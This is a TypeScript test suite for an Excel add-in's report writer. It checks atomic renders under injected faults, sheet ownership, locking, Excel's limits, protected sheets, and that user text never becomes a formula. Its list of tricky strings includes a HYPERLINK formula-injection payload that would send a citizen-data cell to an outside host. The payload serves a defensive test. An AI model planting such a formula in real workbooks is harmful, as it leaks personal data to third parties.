/**
 * Safe writes (issue 8) against the preview workbook, which is as strict as Excel: text stays
 * text, a failed write at any operation or sync leaves the workbook consistent, ownership
 * travels with the sheet, references into regenerated sheets survive, renders never overlap,
 * and Excel's limits are refused before anything is written.
 */
import fc from "fast-check";
import { formula, type SheetSpec } from "../../src/core/report/sheetSpec";
import type { ExcelRun } from "../../src/excel/host";
import { renderSheets } from "../../src/excel/render";
import { readRegister } from "../../src/excel/state";
import { createPreviewWorkbook, type PreviewWorkbook } from "../../src/preview/workbook";
import { protectionOf, userMayEdit } from "../../src/preview/workbook/protectionState";
import { extrasOf } from "../../src/preview/workbook/extrasState";
import { saveTheory, loadTheory } from "../../src/excel/theoryStore";
import { addItem, emptyTheory } from "../../src/core/theory";
import { readSelectionSource, runAndWriteComparison } from "../../src/excel/comparisonStore";
import { runComparison, suggestSettings } from "../../src/core/analysis";
import { cellHasCpr, normaliseKey } from "../../src/core/data";

const runOf = (wb: PreviewWorkbook): ExcelRun => wb.run.bind(wb) as ExcelRun;

function spec(label: string, name = "Resultater"): SheetSpec {
  return {
    protection: name === "Randomisering" ? { unlocked: ["B2"] } : undefined,
    name,
    cells: [
      { address: "A1", values: [["Overskrift", label]] },
      { address: "A3", values: [["Gruppe", "Andel"], ["Indsats", 0.3], ["Kontrol", label.length / 100], ["I alt", formula("=SUM(B4:B5)")]] },
    ],
    styles: [{ range: "A3:B3", style: { bold: true, fill: "#DDEEFF" } }],
    merges: ["C1:D1"],
    tables: [{ name: `tbl${name.replace(/\W/g, "")}`, range: "A3:B5" }],
    columnWidths: [{ columns: "A", width: 120 }],
    freeze: { rows: 3, columns: 0 },
    charts: [{ name: "Andel", type: "columnClustered", dataRange: "A3:B5", seriesBy: "columns", topLeft: "D3", bottomRight: "H12" }],
    pageSetup: { orientation: "landscape", paperSize: "A4", fitToWidth: true, footer: { center: [{ text: label }] } },
    names: [{ name: `Virkning.${name.replace(/\W/g, "")}.Andel`, cell: "B4" }],
    dataValidations: [{ range: "C4:C5", list: ["ja", "nej"] }],
    conditionalFormats: [{ range: "A4:B5", formula: formula('=$B4>0.2'), fill: "#FFEEAA" }],
  };
}

/** What a user sees on a sheet (not its id); `formulaValues: false` leaves out what formulas compute. */
function content(wb: PreviewWorkbook, name: string, formulaValues = true): unknown {
  const s = wb.getSheet(name);
  if (!s) return undefined;
  const ext = s.usedExtent();
  const cells: unknown[] = [];
  for (let r = 0; r < ext.rowCount; r++)
    for (let c = 0; c < ext.columnCount; c++) {
      const cell = s.getCell(r, c);
      cells.push(cell && cell.formula !== undefined && !formulaValues ? { ...cell, value: "(formel)" } : (cell ?? null));
    }
  return {
    cells,
    merges: [...s.merges],
    tables: s.tables.map((t) => [t.name, t.range]),
    charts: s.charts.map((c) => c.name),
    widths: [...s.columnWidths],
    frozen: { ...s.frozen },
    footer: s.pageLayout.centerFooter,
    visibility: s.visibility,
    validations: extrasOf(s).validations.map((v) => [v.ref, v.list.source]),
    conditional: extrasOf(s).formats.map((f) => [f.ref, f.formula, f.fill]),
    protection: protectionOf(s) !== undefined,
  };
}

/** The user's sheets; formulas by their text (what they compute follows our sheets). */
function userSheets(wb: PreviewWorkbook): unknown {
  return { b: content(wb, "Borgere", false), n: content(wb, "Noter", false) };
}

/** A fresh sample workbook holding old results and a user formula that points into them. */
async function withOldResults(names: string[]): Promise<PreviewWorkbook> {
  const wb = createPreviewWorkbook({ sample: true });
  await renderSheets(runOf(wb), names.map((n) => spec("gammel", n)));
  wb.setCellByUser("Noter", 20, 0, `='${names[0]}'!B4*2`);
  return wb;
}

async function renderWithFault(wb: PreviewWorkbook, specs: SheetSpec[], fault: { operation?: number; sync?: number }): Promise<string | undefined> {
  wb.injectFault(fault);
  try {
    await renderSheets(runOf(wb), specs);
    return undefined;
  } catch (e) {
    return (e as { code?: string }).code ?? "unknown";
  } finally {
    wb.injectFault(undefined);
  }
}

/** Every registered sheet carries its token; no temporary sheet is left; pending and lock are empty. */
async function expectConsistent(wb: PreviewWorkbook): Promise<void> {
  const reg = await readRegister(runOf(wb));
  expect(wb.sheets.filter((s) => s.name.startsWith("~virkning"))).toEqual([]);
  for (const o of reg.sheets) {
    const mark = wb.names.find((n) => n.sheet !== undefined && n.name === "Virkning_ejer" && n.formula === `="${o.token}"`);
    expect(mark?.sheet?.name).toBe(o.name);
  }
  expect(reg.pending).toEqual([]);
  expect(reg.lock).toBeUndefined();
}

async function totalOperations(setup: () => Promise<PreviewWorkbook>, specs: SheetSpec[]): Promise<{ operations: number; syncs: number }> {
  const wb = await setup();
  wb.injectFault({ operation: Number.MAX_SAFE_INTEGER });
  wb.resetSyncCount();
  await renderSheets(runOf(wb), specs);
  const r = { operations: wb.operationCount, syncs: wb.syncCount };
  wb.injectFault(undefined);
  return r;
}

describe("a failure at any operation or sync leaves the workbook as it was, or with a complete new copy", () => {
  const scenarios: { title: string; existing: string[]; render: string[] }[] = [
    { title: "a new sheet", existing: [], render: ["Resultater"] },
    { title: "a regenerated sheet", existing: ["Resultater"], render: ["Resultater"] },
    { title: "two regenerated sheets and a new one", existing: ["Programteori", "Diagram"], render: ["Programteori", "Diagram", "Ny"] },
    { title: "a regenerated protected sheet", existing: ["Randomisering"], render: ["Randomisering"] },
  ];
  test.each(scenarios)("$title", async ({ existing, render }) => {
    const setup = async (): Promise<PreviewWorkbook> => (existing.length ? withOldResults(existing) : createPreviewWorkbook({ sample: true }));
    const specs = render.map((n) => spec("ny", n));
    const { operations, syncs } = await totalOperations(setup, specs);
    expect(operations).toBeGreaterThan(20);
    const faults = [...Array.from({ length: operations }, (_, i) => ({ operation: i + 1 })), ...Array.from({ length: syncs }, (_, i) => ({ sync: i + 1 }))];
    const codes = new Set<string | undefined>();
    for (const fault of faults) {
      const wb = await setup();
      const old = Object.fromEntries(render.map((n) => [n, content(wb, n)]));
      const settingsBefore = [...wb.settings];
      const users = userSheets(wb);
      const code = await renderWithFault(wb, specs, fault);
      codes.add(code);
      if (wb.getSheet("Noter")!.getCell(20, 0)?.formula === "=#REF!B4*2") {
        // Only when the message says it: the half-written sheet was replaced by its complete
        // copy, so the user's formula into it shows #REF! (as after deleting a sheet in Excel).
        expect({ fault, code }).toEqual({ fault, code: "RENDER_KEPT_NEW_COPY" });
        wb.setCellByUser("Noter", 20, 0, `='${existing[0]}'!B4*2`);
      }
      expect({ fault, users: userSheets(wb) }).toEqual({ fault, users });
      if (code === "RENDER_FAILED" && existing.length === 0) expect([...wb.settings]).toEqual(settingsBefore);
      // Each target holds its complete old content or its complete new content, never a mix.
      const reference = await setup();
      await renderSheets(runOf(reference), specs);
      for (const n of render) {
        const now = content(wb, n);
        const isOld = JSON.stringify(now) === JSON.stringify(old[n]);
        const isNew = JSON.stringify(now) === JSON.stringify(content(reference, n));
        expect({ fault, sheet: n, complete: isOld || isNew }).toEqual({ fault, sheet: n, complete: true });
      }
      await expectConsistent(wb);
      // The next run succeeds and writes the new content.
      await renderSheets(runOf(wb), specs);
      for (const n of render) expect(content(wb, n)).toEqual(content(reference, n));
    }
    expect(codes.has("RENDER_FAILED")).toBe(true);
  }, 120_000);
});

describe("references survive regeneration", () => {
  test("a user's formula into a regenerated sheet keeps working (no #REF!), and the named result follows", async () => {
    const wb = await withOldResults(["Resultater"]);
    wb.setCellByUser("Noter", 21, 0, "=Virkning.Resultater.Andel*100");
    expect(wb.getSheet("Noter")!.getCell(20, 0)?.value).toBeCloseTo(0.6);
    await renderSheets(runOf(wb), [{ ...spec("ny"), cells: [{ address: "A3", values: [["Gruppe", "Andel"], ["Indsats", 0.45]] }], tables: [], charts: [] }]);
    expect(wb.getSheet("Noter")!.getCell(20, 0)).toMatchObject({ formula: "='Resultater'!B4*2", value: 0.9 });
    expect(wb.getSheet("Noter")!.getCell(21, 0)?.value).toBeCloseTo(45);
  });

  test("the preview turns references to a deleted sheet into #REF!, as Excel does", async () => {
    const wb = await withOldResults(["Resultater"]);
    await wb.run(async (context) => {
      context.workbook.worksheets.getItem("Resultater").delete();
      await context.sync();
    });
    wb.addSheetDirect("Resultater");
    expect(wb.getSheet("Noter")!.getCell(20, 0)).toMatchObject({ formula: "=#REF!B4*2", value: "#REF!" });
  });
});

describe("ownership travels with the sheet", () => {
  test("after reopening (new sheet ids) and renaming, the add-in still owns its sheet; a user's sheet of that name is not ours", async () => {
    const wb = await withOldResults(["Resultater"]);
    wb.reopen();
    await renderSheets(runOf(wb), [spec("efter genåbning")]);
    expect(wb.getSheet("Resultater")!.getCell(0, 1)?.value).toBe("efter genåbning");
    // The user renames our sheet and makes their own "Resultater".
    await wb.run(async (context) => {
      context.workbook.worksheets.getItem("Resultater").name = "Gamle resultater";
      context.workbook.worksheets.add("Resultater");
      await context.sync();
    });
    wb.reopen();
    await expect(renderSheets(runOf(wb), [spec("igen")])).rejects.toMatchObject({ code: "SHEET_NOT_OWNED" });
    // Our renamed sheet is still ours: rendering under its new name replaces it in place.
    await renderSheets(runOf(wb), [spec("omdøbt", "Gamle resultater")]);
    expect(wb.getSheet("Gamle resultater")!.getCell(0, 1)?.value).toBe("omdøbt");
  });

  test("an interrupted render's register entry ({id: ''}) does not make a user's sheet ours", async () => {
    const wb = createPreviewWorkbook({ sample: true });
    wb.setSettingDirect("virkning.ownedSheets", JSON.stringify([{ id: "", name: "Sammenligning" }]));
    wb.setValues("Sammenligning", "A1", [["brugerens egne tal"]]);
    await expect(renderSheets(runOf(wb), [spec("x", "Sammenligning")])).rejects.toMatchObject({ code: "SHEET_NOT_OWNED" });
    expect(wb.getSheet("Sammenligning")!.getCell(0, 0)?.value).toBe("brugerens egne tal");
  });

  test("leftovers of a crashed render are removed by the next run", async () => {
    const crashed = createPreviewWorkbook({ sample: true });
    // Simulate a crash: stop after the build sync (no rollback runs).
    let syncs = 0;
    const crashingRun: ExcelRun = ((batch: (c: Excel.RequestContext) => Promise<unknown>) =>
      crashed.run(async (context) => {
        const original = context.sync.bind(context);
        (context as unknown as { sync: () => Promise<void> }).sync = async () => {
          if (++syncs >= 4) throw new Error("the add-in was closed");
          await original();
        };
        return batch(context);
      })) as unknown as ExcelRun;
    await expect(renderSheets(crashingRun, [spec("x")])).rejects.toBeDefined();
    expect(crashed.sheets.some((s) => s.name.startsWith("~virkning"))).toBe(true);
    // The crashed render left its lock; it was this pane's, so it does not block the next run
    // (another pane's fresh lock would: see "one render at a time").
    const reg = JSON.parse(JSON.parse(crashed.settings.get("virkning.ownedSheets") as string) as string) as { lock?: { at: number }; pending: string[] };
    expect(reg.lock).toBeDefined();
    expect(reg.pending).toHaveLength(1);
    await renderSheets(runOf(crashed), [spec("y")]);
    await expectConsistent(crashed);
    expect(crashed.getSheet("Resultater")!.getCell(0, 1)?.value).toBe("y");
  });
});

describe("one render at a time", () => {
  test("two renders started together both finish, one after the other, with no stray sheets", async () => {
    const wb = createPreviewWorkbook({ sample: true });
    await Promise.all([renderSheets(runOf(wb), [spec("først")]), renderSheets(runOf(wb), [spec("dernæst")])]);
    expect(wb.getSheet("Resultater")!.getCell(0, 1)?.value).toBe("dernæst");
    await expectConsistent(wb);
  });

  test("a render of another pane or co-author (a fresh lock) refuses this one in Danish, and nothing is written", async () => {
    const wb = createPreviewWorkbook({ sample: true });
    wb.setSettingDirect("virkning.ownedSheets", JSON.stringify({ version: 2, sheets: [], pending: [], names: [], lock: { token: "x", at: Date.now() } }));
    const before = [...wb.sheetNames()];
    await expect(renderSheets(runOf(wb), [spec("x")])).rejects.toMatchObject({ code: "RENDER_BUSY", message: expect.stringContaining("Vent et øjeblik") });
    expect(wb.sheetNames()).toEqual(before);
  });
});

describe("Excel's limits are checked before anything is written", () => {
  const cases: [string, SheetSpec, RegExp][] = [
    ["rows", { name: "R", cells: [{ address: "A1048576", values: [["a"], ["b"]] }] }, /1\.048\.576 rækker/],
    ["columns", { name: "R", cells: [{ address: "XFD1", values: [["a", "b"]] }] }, /16\.384 kolonner/],
    ["cell length", { name: "R", cells: [{ address: "A1", values: [["x".repeat(32_768)]] }] }, /højst rumme 32\.767/],
    ["footer", { name: "R", cells: [], pageSetup: { orientation: "portrait", paperSize: "A4", footer: { center: [{ text: "&".repeat(128) }] } } }, /sidefodet er for lang/],
    ["defined name", { name: "R", cells: [], names: [{ name: "A1", cell: "B2" }] }, /kan ikke bruges som navn/],
  ];
  test.each(cases)("%s", async (_what, s, message) => {
    const wb = createPreviewWorkbook({ sample: true });
    wb.resetSyncCount();
    await expect(renderSheets(runOf(wb), [s])).rejects.toMatchObject({ code: "RENDER_INVALID_SPEC", message: expect.stringMatching(message) });
    expect(wb.syncCount).toBe(0);
  });
});

describe("text is text", () => {
  const tricky = [
    '=HYPERLINK("https://example.org/?d="&Borgere!A2,"Klik")',
    "=2+2",
    "=> se bilag 2",
    "=",
    "+45 12 34 56 78",
    "-",
    "- punkt",
    "@borger",
    "'citat",
    "#N/A",
    "(5)",
    "$5",
    "5 May",
    "May 5",
    "1,234,567",
    "12,5 %",
    "1/2",
    "12:30",
    "TRUE",
    "falsk",
    " 42 ",
    "0013901234", // leading zeros kept (not a date: a CPR number is refused by the personal-data gate)
  ];
  const textChars = fc.constantFrom("=", "+", "-", "@", "'", "#", "(", ")", "$", "%", ",", ".", "/", ":", " ", "\t", "\n", "\u00a0", "0", "1", "9", "e", "E", "a", "Z", "æ", "&", '"', "\u0001", "\u200b");
  const arbitraryText = fc.oneof(fc.constantFrom(...tricky), fc.string({ unit: textChars, minLength: 1, maxLength: 12 }), fc.string({ minLength: 1, maxLength: 20 }));

  async function roundTrip(values: string[]): Promise<{ values: unknown[]; types: unknown[]; formulas: unknown[] }> {
    const wb = createPreviewWorkbook({ sample: true });
    await renderSheets(runOf(wb), [{ name: "Tekst", cells: [{ address: "A1", values: values.map((v) => [v]) }] }]);
    return wb.run(async (context) => {
      const r = context.workbook.worksheets.getItem("Tekst").getRange(`A1:A${values.length}`).load("values,valueTypes,formulas");
      await context.sync();
      return { values: r.values.map((x) => x[0]), types: r.valueTypes.map((x) => x[0]), formulas: r.formulas.map((x) => x[0]) };
    });
  }

  test("every string a user could type comes back exactly, as text, never as a formula", async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(arbitraryText, { minLength: 1, maxLength: 8 }), async (values) => {
        // (Text holding a CPR number is refused by the personal-data gate; see personalDataGate.test.ts.)
        fc.pre(!values.some((x) => cellHasCpr(x)));
        const back = await roundTrip(values);
        expect(back.values).toEqual(values);
        expect(back.types).toEqual(values.map(() => "String"));
        expect(back.formulas).toEqual(values);
      }),
      { numRuns: 150 },
    );
  });

  test("a 32,767-character text and the tricky list", async () => {
    const values = [...tricky, "=".padEnd(32_767, "x")];
    const back = await roundTrip(values);
    expect(back.values).toEqual(values);
    expect(back.types).toEqual(values.map(() => "String"));
  });

  test("programme-theory fields with formula-like text are saved and read back as the same text", async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(arbitraryText, { minLength: 3, maxLength: 3 }), async ([title, name, description]) => {
        // (Text holding a CPR number is refused before saving; see the CPR tests.)
        fc.pre(![title, name, description].some((x) => cellHasCpr(x)));
        const wb = createPreviewWorkbook({ sample: true });
        const t = addItem(emptyTheory(title.trim() || "x"), "slutmaal", name.trim() || "y", description.trim());
        await saveTheory(runOf(wb), t, "da", { shapes: false });
        const back = await loadTheory(runOf(wb));
        expect(back?.theory.title).toBe(t.title);
        expect(back?.theory.finalGoals[0]).toMatchObject({ name: t.finalGoals[0].name, description: t.finalGoals[0].description });
      }),
      { numRuns: 40 },
    );
  });
});

describe("named key results of the comparison", () => {
  test("a leader's formula on the workbook name of a result follows the number after Kør igen", async () => {
    const wb = createPreviewWorkbook({ sample: true });
    const run = runOf(wb);
    wb.selectByUser("Borgere", { row: 4, column: 2, rowCount: 1, columnCount: 1 });
    const input = await readSelectionSource(run);
    const settings = suggestSettings(input!, "da");
    await runAndWriteComparison(run, settings, { lang: "da" });
    const last = Math.max(...runComparison(input!, settings).followUps);
    const name = `Virkning.Udfald1.${last}mdr.Indsats`;
    const shareCell = (): number => {
      const n = wb.names.find((x) => x.name === name)!;
      const [, r] = /!\$D\$(\d+)$/.exec(n.formula)!;
      return wb.getSheet("Sammenligning")!.getCell(Number(r) - 1, 3)!.value as number;
    };
    wb.setCellByUser("Noter", 30, 0, `=${name}*100`);
    const before = wb.getSheet("Noter")!.getCell(30, 0)!.value as number;
    expect(before).toBeCloseTo(shareCell() * 100, 10);
    // One more citizen in the intervention group reaches the outcome at the last follow-up.
    const borgere = wb.getSheet("Borgere")!;
    let row = -1;
    for (let r = 1; r <= 60 && row < 0; r++) if (borgere.getCell(r, 1)?.value === "Indsats" && !settings.outcomes[0].statuses.includes(String(borgere.getCell(r, 12)?.value)) && borgere.getCell(r, 12)?.value !== "Fraflyttet") row = r;
    expect(row).toBeGreaterThan(0);
    wb.setCellByUser("Borgere", row, 12, settings.outcomes[0].statuses[0]);
    await runAndWriteComparison(run, settings, { lang: "da" });
    const after = wb.getSheet("Noter")!.getCell(30, 0)!.value as number;
    expect(after).toBeCloseTo(shareCell() * 100, 10);
    expect(after).toBeGreaterThan(before);
  });
});

describe("protected sheets", () => {
  test("a spec with protection is protected after writing with its editable cells unlocked, and regenerates through the protection", async () => {
    const wb = createPreviewWorkbook({ sample: true });
    const protectedSpec = (v: string): SheetSpec => ({ ...spec(v), protection: { unlocked: ["B2:B3"] } });
    await renderSheets(runOf(wb), [protectedSpec("første")]);
    const s = (): NonNullable<ReturnType<PreviewWorkbook["getSheet"]>> => wb.getSheet("Resultater")!;
    expect(protectionOf(s())).toBeDefined();
    expect(userMayEdit(s(), 1, 1)).toBe(true);
    expect(userMayEdit(s(), 0, 1)).toBe(false);
    await renderSheets(runOf(wb), [protectedSpec("anden")]);
    expect(s().getCell(0, 1)?.value).toBe("anden");
    expect(protectionOf(s())).toBeDefined();
    // Without protection in the spec, the regenerated sheet is no longer protected.
    await renderSheets(runOf(wb), [spec("tredje")]);
    expect(protectionOf(s())).toBeUndefined();
    await expectConsistent(wb);
  });
});

describe("text is text on Sammenligning", () => {
  const label = fc
    .string({ unit: fc.constantFrom("=", "+", "-", "@", "'", "(", ")", "$", "%", ",", ".", "/", ":", "&", '"', "1", "2", "0", "e", "a", "Z", "ø", " "), minLength: 1, maxLength: 10 })
    .map((s) => s.trim())
    .filter((s) => s.length > 0 && !/^#/.test(s) && !/^\d{6}-?\d{4}$/.test(s) && !["Indsats", "Kontrol"].includes(s));

  test("arbitrary status and group labels from the data appear verbatim, as text, on the results sheet", async () => {
    await fc.assert(
      fc.asyncProperty(label, label, async (status, group) => {
        fc.pre(normaliseKey(status) !== normaliseKey(group));
        const wb = createPreviewWorkbook({ sample: true });
        const run = runOf(wb);
        const borgere = wb.getSheet("Borgere")!;
        // Text cells in the data (as an export holds them; setValues would make "=…" a formula).
        for (let r = 1; r <= 60; r++) if (borgere.getCell(r, 1)?.value === "Kontrol") borgere.write(r, 1, group, false);
        for (const r of [2, 3, 4]) borgere.write(r, 12, status, false);
        borgere.changed();
        wb.selectByUser("Borgere", { row: 4, column: 2, rowCount: 1, columnCount: 1 });
        const input = await readSelectionSource(run);
        const settings = suggestSettings(input!, "da");
        settings.groupMap = { ...settings.groupMap, [normaliseKey(group)]: "control" };
        settings.statusClasses = { ...settings.statusClasses, [status]: "valid" };
        await runAndWriteComparison(run, settings, { lang: "da" });
        const out = await wb.run(async (context) => {
          const r = context.workbook.worksheets.getItem("Sammenligning").getUsedRange().load("values,valueTypes,formulas");
          await context.sync();
          return r;
        });
        const hits = (text: string): { type: string; formula: unknown }[] => {
          const found: { type: string; formula: unknown }[] = [];
          out.values.forEach((row, i) => row.forEach((v, j) => v === text && found.push({ type: out.valueTypes[i][j], formula: out.formulas[i][j] })));
          return found;
        };
        expect(hits(status).length).toBeGreaterThan(0);
        expect(hits(status).every((h) => h.type === "String" && h.formula === status)).toBe(true);
        // Nothing on the sheet became a formula.
        expect(out.formulas.flat().filter((f) => typeof f === "string" && f.startsWith("=") && !out.values.flat().includes(f))).toEqual([]);
      }),
      { numRuns: 25 },
    );
  }, 60_000);
});
